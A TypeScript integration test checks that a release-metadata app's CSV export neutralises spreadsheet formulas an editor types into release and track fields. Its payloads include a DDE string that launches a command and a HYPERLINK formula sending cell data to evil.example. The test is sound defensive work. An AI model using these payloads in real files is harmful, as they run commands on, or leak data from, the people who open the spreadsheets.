import {
  addTrack,
  addTrackEntry,
  type ReleaseSheet,
  readReleaseFields,
  readTracks,
  setReleaseFields,
} from '@patchline/shared';
import { beforeAll, describe, expect, it } from 'vitest';
import { apiClient } from '../support/api-client.js';
import { formulaStarts, parseCsv } from '../support/csv.js';
import { connectRelease, waitForDoc } from '../support/release-client.js';
import { idTokenOf } from '../support/sign-in.js';
import { startTestStack, type TestStack } from '../support/test-stack.js';

let stack: TestStack;
let editorToken: string;
let managerToken: string;

beforeAll(async () => {
  const started = await startTestStack({ workers: 1 });
  stack = started.stack;
  editorToken = await idTokenOf(stack.config, 'editor');
  managerToken = await idTokenOf(stack.config, 'manager');
  return started.teardown;
});

const CALC = `cmd|' /C calc'!A0`;

/** What the editor types (column → text) and the cell the manager's spreadsheet then reads. */
const RELEASE_ATTACKS = {
  title: [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    `'=HYPERLINK("https://evil.example/?leak="&A2,"Open")`,
  ],
  version: [`+1+${CALC}`, `'+1+${CALC}`],
  displayArtist: [`-2+3+${CALC}`, `'-2+3+${CALC}`],
  genre: [`@SUM(1+9)*${CALC}`, `'@SUM(1+9)*${CALC}`],
  language: ['\t=1+1', "'\t=1+1"],
  originalReleaseDate: ['\r=1+1', "'\r=1+1"],
  releaseDate: ['  =1+1', "  '=1+1"],
  preorderDate: ['\n=1+1', "\n'=1+1"],
} as const;

/** A separator some locales (or "text to columns") split on, then a formula. */
const TRACK_ATTACKS = {
  title: ['Intro,=1+1', "Intro,'=1+1"],
  artists: ['Ann;=1+1', "Ann;'=1+1"],
  version: ['Live; -2+3', "Live; '-2+3"],
  iswc: [',@SUM(1)', ",'@SUM(1)"],
  isrc: ['x;\t=1', "x;'\t=1"],
  language: ['en,\r=1', "en,'\r=1"],
} as const;

describe('GET /releases/:id/export.csv with formulas typed into the sheet', () => {
  it("neutralises every cell a spreadsheet would evaluate, and leaves the sheet's real values as they are", async () => {
    const releaseId = stack.demoReleaseId;
    const manager = apiClient(stack.config, managerToken);
    const before = await manager.get<ReleaseSheet>(`/releases/${releaseId}/export.json`);
    expect(before.status).toBe(200);

    // The attacker is an editor of the release, typing through the WebSocket like the web app.
    const editor = connectRelease(stack.config.websocketUrl, releaseId, editorToken);
    const watcher = connectRelease(stack.config.websocketUrl, releaseId, managerToken);
    await Promise.all([editor.whenSynced(), watcher.whenSynced()]);
    editor.doc.transact(() => {
      setReleaseFields(
        editor.doc,
        Object.fromEntries(Object.entries(RELEASE_ATTACKS).map(([field, [typed]]) => [field, typed])),
      );
      const trackId = addTrack(
        editor.doc,
        Object.fromEntries(Object.entries(TRACK_ATTACKS).map(([field, [typed]]) => [field, typed])),
      );
      addTrackEntry(editor.doc, trackId, 'credits', { name: '=cmd', role: 'producer' });
      addTrackEntry(editor.doc, trackId, 'credits', { name: '@Bob', role: 'mix' });
      addTrackEntry(editor.doc, trackId, 'splits', { party: '+1', role: 'publisher', share: 50 });
    });
    // The server relays an update only once it is stored (ARCHITECTURE.md), so once the manager's
    // copy has it, the export reads it.
    await waitForDoc(
      watcher.doc,
      (doc) =>
        readReleaseFields(doc).title === RELEASE_ATTACKS.title[0] &&
        readTracks(doc).some((track) => track.title === TRACK_ATTACKS.title[0] && track.splits.length === 1),
    );

    const response = await manager.get<string>(`/releases/${releaseId}/export.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, ...rows] = parseCsv(response.body);
    const column = (name: string) => {
      const index = header!.indexOf(name);
      expect(index, name).toBeGreaterThanOrEqual(0);
      return index;
    };
    expect(rows).toHaveLength(before.body.tracks.length + 1);
    const attacked = rows.at(-1)!;

    for (const [field, [, cell]] of Object.entries(RELEASE_ATTACKS))
      for (const row of rows) expect(row[column(`release.${field}`)], field).toBe(cell);
    for (const [field, [, cell]] of Object.entries(TRACK_ATTACKS))
      expect(attacked[column(`track.${field}`)], field).toBe(cell);
    expect(attacked[column('track.credits')]).toBe("'=cmd (producer); '@Bob (mix)");
    expect(attacked[column('track.splits')]).toBe("'+1 publisher 50%");
    for (const row of rows) for (const cell of row) expect(formulaStarts(cell)).toEqual([]);

    // The demo tracks were not touched: numbers, ISO durations, codes and dates come out as typed.
    before.body.tracks.forEach((track, i) => {
      const row = rows[i]!;
      expect(row[column('track.number')]).toBe(String(i + 1));
      expect(row[column('track.duration')]).toMatch(/^PT\d+M\d+S$/);
      for (const field of ['title', 'artists', 'isrc', 'duration', 'iswc'] as const)
        expect(row[column(`track.${field}`)]).toBe(track[field]);
      expect(row[column('track.splits')]).toBe(
        track.splits.map((split) => `${split.party} ${split.role} ${split.share}%`).join('; '),
      );
    });
    for (const field of ['upc', 'label', 'pLine', 'cLine'] as const)
      expect(rows[0]![column(`release.${field}`)]).toBe(before.body.release[field]);
  });
});
